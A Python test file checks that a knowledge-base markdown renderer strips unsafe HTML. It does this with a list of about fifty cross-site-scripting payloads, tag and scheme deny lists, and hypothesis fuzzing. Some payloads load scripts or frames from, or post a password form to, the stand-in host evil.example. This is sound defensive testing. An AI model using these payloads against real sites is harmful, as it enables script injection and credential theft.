"""Whatever an article says, its HTML can only show: nothing runs, nothing loads from where it must not."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb.content.markdown import Picture, render

SHOWN = (set(nh3.ALLOWED_TAGS) | set("section figure figcaption details summary mark u div".split())) - {
    "svg",
    "math",
}
DANGEROUS = set(
    """
    script style iframe frame object embed applet form input button textarea select option svg math link meta
    base template noscript video audio source portal marquee title head body html
    """.split()
)
ATTRIBUTES = set(
    "href src alt title width height align colspan rowspan scope start id role open class name loading "
    "tabindex aria-label lang dir cite datetime".split()
)
SCHEMES = {"", "http", "https", "mailto", "tel"}


class Elements(HTMLParser):
    """Every tag, attribute and address in some HTML, as a browser would see them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []
        self.left_open: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag not in ("br", "hr", "img", "col", "wbr", "area"):
            self.left_open.append(tag)
        for name, value in attrs:
            self.attributes.add(name)
            if name in ("href", "src"):
                self.addresses.append(value or "")

    def handle_endtag(self, tag: str) -> None:
        if self.left_open[-1:] == [tag]:
            self.left_open.pop()
        else:
            self.left_open.append(f"/{tag}")


def rendered(body: str) -> str:
    return render(body, lambda href: href, Picture).html


def assert_harmless(page: str) -> None:
    found = Elements(page)
    assert found.tags <= SHOWN - DANGEROUS
    assert found.attributes <= ATTRIBUTES
    for address in found.addresses:
        try:
            scheme = urlsplit("".join(address.split())).scheme
        except ValueError:  # no browser follows an address that is none
            continue
        assert scheme in SCHEMES, address


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<p onclick=alert(1)>x</p>",
        "<img src=x onerror=alert(1)>",
        '<img src="x" onload="alert(1)">',
        "<body onload=alert(1)>x",
        "<svg onload=alert(1)><circle r=1 /></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=x.swf></object><embed src=x.swf>",
        "<style>body{display:none}</style>",
        "<p style='background:url(//evil.example)'>x</p>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example/>",
        "<form action=//evil.example><input name=password><button>Go</button></form>",
        "<template><img src=x onerror=alert(1)></template>",
        "<video src=x onerror=alert(1)></video><audio src=x>",
        "<details ontoggle=alert(1) open>x</details>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x)",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='java&#09;script:alert(1)'>x</a>",
        "<a href='&#1;javascript:alert(1)'>x</a>",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        '![x"onerror="alert(1)](x.png)',
        '[x](<x"onclick="alert(1)>)',
        '[x](y "t\\" onclick=\\"alert(1)")',
        "text\n{: onclick=alert(1) style=color:red }",
        "## Heading {: onclick=alert(1) }",
        "## <img src=x onerror=alert(1)> heading",
        "## &lt;script&gt;alert(1)&lt;/script&gt;",
        "| <script>x</script> | <b onclick=x>y</b> |\n|---|---|\n| <iframe></iframe> | z |",
        "> [!NOTE]<script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "<div markdown=1><script>alert(1)</script></div>",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<a href=x><h2 onclick=alert(1)>x</a>",
    ],
)
def test_an_attack_does_nothing(attack: str) -> None:
    page = rendered(f"Before.\n\n{attack}\n\nAfter.")
    assert_harmless(page)
    assert "Before." in page


def test_what_is_harmless_stays() -> None:
    page = rendered(
        "**b** *i* [a](https://x.example) [m](mailto:a@b.example) [t](tel:+44) ![i](x.png)\n\n"
        "<details><summary>s</summary>d</details> <kbd>Ctrl</kbd>\n\n---\n"
    )
    kept = {"strong", "em", "a", "img", "details", "summary", "kbd", "hr"}
    assert kept <= Elements(page).tags
    assert Elements(page).addresses == ["https://x.example", "mailto:a@b.example", "tel:+44", "x.png"]


PIECES = r"""
< > </ /> <!-- --> <![CDATA[ ]]> " ' ` = & &lt; &#60; &#x3c; script <script> </script> <style> <svg>
<math> <h2> </h2> <h1> <table> <td> </table> <p <a <img href= src= onclick= style= javascript: data:
> # ## * _ ** <div> <p> <li> [x]( ) ![ ]: [^1] {: } | --- > ~~~ ``` markdown=1 <details> <iframe>
<textarea> <title> <plaintext> </div> </p> \
""".split()
text = st.lists(
    st.sampled_from([*PIECES, "\n", "\n\n", " ", "    ", "x"]) | st.text(max_size=3), max_size=25
).map("".join)


@settings(deadline=None, derandomize=True, max_examples=400)
@given(text)
def test_no_text_at_all_renders_to_a_tag_outside_the_list(body: str) -> None:
    assert_harmless(rendered(body))


@settings(deadline=None, derandomize=True, max_examples=150)
@given(text)
def test_tags_are_closed_in_order_so_that_no_article_breaks_out_of_its_page(body: str) -> None:
    page = rendered(body)
    assert Elements(page).left_open == []
    assert nh3.clean(f"<main>{page}</main>END", tags={"main"}).endswith("</main>END")
